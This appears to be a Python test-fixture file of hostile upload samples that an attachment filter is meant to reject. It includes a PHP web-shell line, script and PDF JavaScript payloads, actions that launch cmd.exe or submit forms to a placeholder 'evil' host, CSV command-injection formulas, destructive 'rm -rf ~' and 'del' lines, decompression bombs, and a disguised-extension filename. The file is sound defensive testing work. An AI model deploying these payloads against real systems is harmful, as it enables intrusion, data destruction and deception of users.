"""Pictures, PDF, texts and programs that must not stay, each with the reason they are refused for."""

from __future__ import annotations

import zlib

from tests.attachments.hostile_office import Sample
from tests.attachments.making import archive, chunk, docx, jpeg, packed, packed_zeros, pdf, png

SCRIPT = b"<script>alert(1)</script>"
PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def pictures() -> list[Sample]:
    """Every hostile picture."""
    bomb = zlib.compress(b"\0" * (8 * 1024 * 1024), 9)
    jar = archive({"META-INF/MANIFEST.MF": "x"})
    return [
        ("a picture of 10 gigapixels", "a.png", png(100_000, 100_000), "bomb"),
        ("a picture of 4 gigapixels, narrow", "a.png", png(2_000_000, 2), "bomb"),
        ("a picture of no width", "a.png", png(0, 3), "broken"),
        ("a JPEG of 4 gigapixels", "a.jpg", jpeg(65_500, 65_500), "bomb"),
        ("a PNG remark that unpacks 1000 to 1", "a.png", png(before_end=chunk(b"zTXt", b"Comment\0\0" + bomb)), "bomb"),
        ("a PNG profile that unpacks 1000 to 1", "a.png", png(before_end=chunk(b"iCCP", b"x\0\0" + bomb)), "bomb"),
        ("a script in a PNG's remark", "a.png", png(before_end=chunk(b"tEXt", b"Comment\0" + b" " * 5000 + SCRIPT)), "mixed"),
        ("a packed script in a PNG's remark", "a.png", png(before_end=chunk(b"zTXt", b"C\0\0" + zlib.compress(b" " * 5000 + SCRIPT))), "mixed"),
        ("a script near a PNG's head", "a.png", png(before_end=chunk(b"tEXt", b"C\0" + SCRIPT)), "mixed"),
        ("a zip behind a PNG", "a.png", png(tail=archive({"a": "b"})), "mixed"),
        ("a page behind a PNG", "a.png", png(tail=b" " * 5000 + PAGE), "mixed"),
        ("a PNG that ends early", "a.png", png()[:-8], "broken"),
        ("a PNG with a wrong sum", "a.png", png()[:-2] + b"xx", "broken"),
        ("a PNG with two heads", "a.png", png(before_end=chunk(b"IHDR", b"\0" * 13)), "broken"),
        ("a zip behind a JPEG", "a.jpg", jpeg() + jar, "mixed"),
        ("a page behind a JPEG", "a.jpg", jpeg() + b" " * 5000 + PAGE, "mixed"),
        ("a program behind a JPEG", "a.jpg", jpeg() + b"MZ\0\0" * 2000, "mixed"),
        ("a script in a JPEG's remark", "a.jpg", jpeg(remark=b" " * 6000 + SCRIPT), "mixed"),
        ("PHP in a JPEG's remark", "a.jpg", jpeg(remark=b" " * 6000 + b"<?php system($_GET[0]); ?>"), "mixed"),
        ("a PDF in a JPEG's remark", "a.jpg", jpeg(remark=b"%PDF-1.4 1 0 obj"), "mixed"),
        ("a JPEG that ends early", "a.jpg", jpeg()[:-2], "broken"),
        ("a JPEG without a picture", "a.jpg", b"\xff\xd8\xff\xd9", "broken"),
        ("a GIF that is a script", "a.gif", b"GIF89a/*" + b"\x01\0" * 9 + b"*/=1;alert(1)", "unknown"),
        ("a GIF with a jar behind", "a.gif", b"GIF89a" + b"\x01\0" * 20 + jar, "unknown"),
        ("a bitmap", "a.bmp", b"BM" + b"\0" * 60, "unknown"),
        ("a WebP", "a.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 24, "unknown"),
        ("an SVG", "a.svg", SVG, "page"),
        ("an SVG under .png", "a.png", SVG, "page"),
        ("an SVG behind a declaration", "a.txt", b'<?xml version="1.0"?>' + SVG, "page"),
        ("a PNG under .jpg", "a.jpg", png(), "ending"),
        ("a PNG without an ending", "picture", png(), "ending"),
        ("a JPEG under .html", "a.html", jpeg(), "ending"),
    ]  # fmt: skip


def pdfs() -> list[Sample]:
    """Every hostile PDF."""

    def acting(action: bytes) -> bytes:
        return pdf(b"/OpenAction " + action)

    def hidden(content: bytes) -> bytes:
        return pdf(objects=(packed(content, b"/Type /ObjStm /N 1 /First 4"),))

    bomb = packed_zeros(600)
    twice = zlib.compress(zlib.compress(b"\0" * (4 * 1024 * 1024), 9), 9)
    return [
        ("a script on opening", "a.pdf", acting(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "active"),
        ("a script spelt in hex", "a.pdf", acting(b"<< /S /J#61v#61Script /JS (app.alert(1)) >>"), "active"),
        ("a script in an object", "a.pdf", pdf(b"/OpenAction 4 0 R", objects=(b"<< /S /JavaScript /JS (x) >>",)), "active"),
        ("a script by name", "a.pdf", pdf(b"/Names << /JavaScript 4 0 R >>", objects=(b"<< >>",)), "active"),
        ("a script in a packed object", "a.pdf", hidden(b"1 0 << /S /JavaScript /JS (x) >>"), "active"),
        ("a script over the edge of a piece", "a.pdf", hidden(b" " * (64 * 1024 - 5) + b"/JavaScript "), "active"),
        ("a script in a string that looks like a stream", "a.pdf", pdf(objects=(b"(>> stream\n) << /S /JavaScript >> (endstream)",)), "active"),
        ("objects packed so that none can look", "a.pdf", pdf(objects=(b"<< /Type /ObjStm /Filter /ASCIIHexDecode /N 1 /First 4 >>\nstream\n2F4A\nendstream",)), "active"),
        ("a program started", "a.pdf", acting(b"<< /S /Launch /F (cmd.exe) >>"), "active"),
        ("a page fetched on opening", "a.pdf", acting(b"<< /S /URI /URI (http://evil/) >>"), "active"),
        ("a form sent off", "a.pdf", pdf(b"/AA << /WC << /S /SubmitForm /F (http://evil/) >> >>"), "active"),
        ("data read in", "a.pdf", pdf(b"/AA << /O << /S /ImportData /F (x.fdf) >> >>"), "active"),
        ("a file inside", "a.pdf", pdf(b"/Names << /EmbeddedFiles 4 0 R >>", objects=(b"<< >>",)), "active"),
        ("a file's stream inside", "a.pdf", pdf(objects=(packed(b"MZ", b"/Type /EmbeddedFile"),)), "active"),
        ("another document opened", "a.pdf", pdf(b"/AA << /O << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >> >>"), "active"),
        ("a document inside opened", "a.pdf", pdf(b"/AA << /O << /S /GoToE >> >>"), "active"),
        ("rich media", "a.pdf", pdf(objects=(b"<< /Type /Annot /Subtype /RichMedia >>",)), "active"),
        ("a rendition with a script", "a.pdf", pdf(objects=(b"<< /S /Rendition /JS (x) >>",)), "active"),
        ("a form with a program", "a.pdf", pdf(b"/AcroForm << /XFA [(template) 4 0 R] >>", objects=(b"<< >>",)), "active"),
        ("a password", "a.pdf", pdf(objects=(b"<< /Filter /Standard >>",)).replace(b"/Size", b"/Encrypt 4 0 R /Size"), "locked"),
        ("a stream that unpacks 1000 to 1", "a.pdf", pdf(objects=(bomb,)), "bomb"),
        ("a stream packed twice", "a.pdf", pdf(objects=(b"<< /Filter [/FlateDecode /FlateDecode] >>\nstream\n" + twice + b"\nendstream",)), "bomb"),
        ("streams without number", "a.pdf", pdf(objects=(b"<< >> stream\nx\nendstream\n" * 51_000,)), "bomb"),
        ("a page before the PDF", "a.pdf", PAGE + pdf(), "mixed"),
        ("a page in the PDF's head", "a.pdf", pdf(head=b"%PDF-1.7\n%" + PAGE + b"\n"), "mixed"),
        ("a page in the PDF's first line", "a.pdf", pdf(head=b"%PDF-1.7" + PAGE + b"\n"), "broken"),
        ("a page behind the PDF", "a.pdf", pdf(tail=PAGE), "mixed"),
        ("a zip behind the PDF", "a.pdf", pdf(tail=archive({"a": "b"})), "mixed"),
        ("a document behind the PDF", "a.pdf", pdf(tail=docx()), "mixed"),
        ("words before the PDF", "a.pdf", b"hello\n" + pdf(), "mixed"),
        ("half a PDF", "a.pdf", pdf()[:120], "broken"),
        ("a PDF under .docx", "a.docx", pdf(), "ending"),
        ("a PDF under .pdf.exe", "合同.pdf.exe", pdf(), "ending"),
        ("a PDF with its ending turned round", "合同\u202efdp.exe", pdf(), "ending"),
    ]  # fmt: skip


def texts() -> list[Sample]:
    """Texts, tables and programs."""
    return [
        ("an empty file", "a.txt", b"", "empty"),
        ("a page", "a.html", PAGE, "page"),
        ("a page under .txt", "a.txt", PAGE, "page"),
        ("a page under .pdf", "a.pdf", PAGE, "page"),
        ("a page behind blanks", "a.txt", b"\xef\xbb\xbf \r\n\t" + PAGE, "page"),
        ("a page in the middle of a text", "a.txt", "甲乙丙".encode() * 150_000 + SCRIPT, "page"),
        ("a page in GB18030", "a.txt", "说明 <iframe src=x></iframe>".encode("gb18030"), "page"),
        ("a page in UTF-16", "a.txt", PAGE.decode().encode("utf-16"), "unknown"),
        ("a page in UTF-7's neighbourhood", "a.txt", b"+ADw-script+AD4-\x00alert(1)", "unknown"),
        ("a link that runs", "a.txt", b"see javascript:alert(1)", "page"),
        ("a message with parts", "a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related", "page"),
        ("a shell script", "a.sh", b"#!/bin/sh\nrm -rf ~\n", "page"),
        ("a shell script under .txt", "a.txt", b"#!/bin/sh\nrm -rf ~\n", "page"),
        ("a batch file under .txt", "a.txt", b"@echo off\r\ndel c:\\*.*\r\n", "page"),
        ("a registry file", "a.reg", b"Windows Registry Editor Version 5.00\r\n", "page"),
        ("an internet shortcut", "a.url", b"[InternetShortcut]\r\nURL=file://evil\r\n", "page"),
        ("a text under .bat", "a.bat", b"del c:\\*.*\r\n", "unknown"),
        ("a text under .hta", "a.hta", b"hello", "unknown"),
        ("a text under .pdf", "a.pdf", b"hello", "ending"),
        ("RTF", "a.rtf", b"{\\rtf1 hello}", "old"),
        ("PostScript", "a.ps", b"%!PS-Adobe-3.0\n", "unknown"),
        ("a formula in a table", "a.csv", "名称,金额\n甲,=1+1\n".encode(), "formula"),
        ("a command in a table", "a.csv", b"a,b\n1,=cmd|' /C calc'!A0\n", "formula"),
        ("a command behind a minus", "a.csv", b"a,b\n1,\"-2+3+cmd|' /C calc'!A0\"\n", "formula"),
        ("a command behind an at sign", "a.csv", b"@SUM(1+1)*cmd|' /C calc'!A0,b\n", "formula"),
        ("a formula behind blanks and quotes", "a.csv", b"a,\" \t'=HYPERLINK(\"\"http://evil\"\")\"\n", "formula"),
        ("a formula in full width", "a.csv", "甲,＝1+1\n".encode("gb18030"), "formula"),
        ("a table of half a million cells", "a.csv", b",,,,,,,,,,,,,,,,,,,\n" * 26_000, "bomb"),
        ("a Windows program", "a.exe", b"MZ\x90\0" + b"\0" * 200, "program"),
        ("a Windows program under .pdf", "a.pdf", b"MZ\x90\0" + b"\0" * 200, "program"),
        ("a Windows program under .jpg", "a.jpg", b"MZ\x90\0" + b"\0" * 200, "program"),
        ("a Linux program", "a", b"\x7fELF\x02\x01\x01" + b"\0" * 200, "program"),
        ("a Mac program", "a", b"\xcf\xfa\xed\xfe" + b"\0" * 200, "program"),
        ("a Java class", "a.class", b"\xca\xfe\xba\xbe\0\0\0\x34", "program"),
        ("WebAssembly", "a.wasm", b"\0asm\x01\0\0\0", "program"),
        ("a shortcut", "a.lnk", b"\x4c\0\0\0\x01\x14\x02\0" + b"\0" * 60, "program"),
        ("compiled help", "a.chm", b"ITSF\x03\0\0\0", "program"),
        ("Flash", "a.swf", b"CWS\x09\0\0\0\0", "program"),
        ("a RAR archive", "a.rar", b"Rar!\x1a\x07\x01\0", "archive"),
        ("a 7z archive", "a.7z", b"7z\xbc\xaf\x27\x1c\0\x04", "archive"),
        ("a gzip", "a.gz", b"\x1f\x8b\x08\0" + b"\0" * 20, "archive"),
        ("a bzip2", "a.bz2", b"BZh91AY&SY\0\0\0", "archive"),
        ("an xz", "a.xz", b"\xfd7zXZ\0\0\x04", "archive"),
        ("a cabinet", "a.cab", b"MSCF\0\0\0\0", "archive"),
        ("a tar", "a.tar", b"a.txt" + b"\0" * 252 + b"ustar\x0000" + b"\0" * 250, "archive"),
        ("random bytes", "a.dat", bytes(range(1, 256)) * 8, "unknown"),
        ("zero bytes", "a.txt", b"\0" * 4096, "unknown"),
        ("a video", "a.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 20, "unknown"),
        ("too large by one byte", "a.txt", b"a" * (2 * 1024 * 1024 + 1), "too_large"),
    ]  # fmt: skip
